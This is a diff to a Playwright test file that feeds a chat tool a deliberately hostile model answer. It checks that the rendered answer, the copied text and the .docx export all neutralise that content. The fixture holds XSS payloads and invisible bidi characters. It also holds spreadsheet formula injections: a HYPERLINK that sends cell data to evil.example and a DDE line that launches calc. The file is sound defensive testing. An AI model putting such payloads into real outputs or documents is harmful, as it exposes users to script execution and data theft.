@@ -1,7 +1,8 @@
 import type { ChildProcess } from 'node:child_process';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { expect, test } from '@playwright/test';
+import { type APIRequestContext, expect, type Page, test } from '@playwright/test';
+import mammoth from 'mammoth';
 import { chooseTopic, signUpAsSubscriber } from './support/chat';
 import { ownAppAddress, startOwnApp } from './support/own-app';
 
@@ -14,6 +15,10 @@ const HOSTILE_ANSWER = [
   '<img src="x" onerror="window.__modelXss = \'img\'; alert(\'img\')">',
   "[Klicka här för mer](javascript:window.__modelXss='markdown';alert('markdown'))",
   "<a href=\"javascript:window.__modelXss='anchor';alert('anchor')\">Öppna länken</a>",
+  // Bidi and zero-width characters, and lines a spreadsheet would run as formulas.
+  'Beslutet \u202Eäger\u202C rum i \u2067kommunen\u2069 inom\u200B fyra\u200D veckor\uFEFF.',
+  '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
 ].join('\n\n');
 
 /** Streams `HOSTILE_ANSWER` as an OpenAI chat completion, word by word. */
@@ -63,6 +68,22 @@ test.afterAll(async () => {
   await new Promise((resolve) => model?.close(resolve));
 });
 
+/** Signs up a new subscriber, asks one question and gives the finished answer. */
+const askHostileModel = async (page: Page, request: APIRequestContext, name: string) => {
+  const tool = await signUpAsSubscriber(page, request, name, baseURL);
+  await chooseTopic(page, 'Övrigt');
+  await tool.getByLabel('Din fråga').fill('Kan bidrag lämnas när bostaden hyrs i andra hand?');
+  await tool.getByLabel('Din fråga').press('Enter');
+  const answer = tool
+    .getByRole('list', { name: 'Konversation' })
+    .getByRole('article', { name: 'Svar' })
+    .last();
+  await expect(answer.getByRole('button', { name: 'Hjälpsamt', exact: true })).toBeVisible({
+    timeout: 30_000,
+  });
+  return answer;
+};
+
 test('a model answer with <script>, event handlers and javascript: links is rendered inert', async ({
   page,
   request,
@@ -72,18 +93,7 @@ test('a model answer with <script>, event handlers and javascript: links is rend
     dialogs.push(dialog.message());
     await dialog.dismiss();
   });
-  const tool = await signUpAsSubscriber(page, request, 'hostile-model', baseURL);
-  await chooseTopic(page, 'Övrigt');
-  await tool.getByLabel('Din fråga').fill('Kan bidrag lämnas när bostaden hyrs i andra hand?');
-  await tool.getByLabel('Din fråga').press('Enter');
-
-  const answer = tool
-    .getByRole('list', { name: 'Konversation' })
-    .getByRole('article', { name: 'Svar' })
-    .last();
-  await expect(answer.getByRole('button', { name: 'Hjälpsamt', exact: true })).toBeVisible({
-    timeout: 30_000,
-  });
+  const answer = await askHostileModel(page, request, 'hostile-model');
   await expect(answer).toContainText('3 § lag (2018:222)');
   await expect(answer).toContainText('Klicka här för mer');
 
@@ -97,4 +107,39 @@ test('a model answer with <script>, event handlers and javascript: links is rend
   await page.waitForTimeout(500);
   expect(await page.evaluate(() => (globalThis as { __modelXss?: string }).__modelXss)).toBeUndefined();
   expect(dialogs).toEqual([]);
+});
+
+test.describe('the case file of a hostile model answer', () => {
+  test.use({ permissions: ['clipboard-read', 'clipboard-write'] });
+
+  test('"Kopiera med källor" and the .docx carry what the screen shows, and no spreadsheet formula', async ({
+    page,
+    request,
+  }) => {
+    const answer = await askHostileModel(page, request, 'hostile-case-file');
+
+    await answer.getByRole('button', { name: 'Kopiera med källor' }).click();
+    await expect(page.getByText('Svaret är kopierat med källor', { exact: true })).toBeVisible();
+    const copied: string = await page.evaluate('navigator.clipboard.readText()');
+    const downloading = page.waitForEvent('download');
+    await answer.getByRole('button', { name: 'Exportera (.docx)' }).click();
+    const { value: docx } = await mammoth.extractRawText({ path: await (await downloading).path() });
+
+    for (const [name, text] of [
+      ['copied text', copied],
+      ['.docx', docx],
+    ] as const) {
+      expect(text, name).toContain('Klicka här för mer');
+      expect(text, name).toContain('Öppna länken');
+      expect(text, name).toContain('Beslutet äger rum i kommunen inom fyra veckor.');
+      expect(text, name).not.toMatch(/<script|<img|<a |onerror|javascript:|__modelXss/i);
+      expect(text, name).not.toMatch(/[\u061C\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/);
+      const lines = text.split('\n');
+      expect(
+        lines.filter((line) => /^[=+\-@\t]/.test(line)),
+        name,
+      ).toEqual([]);
+      expect(lines, name).toContain('\'=HYPERLINK("https://evil.example/?"&A1,"Klicka")');
+    }
+  });
 });
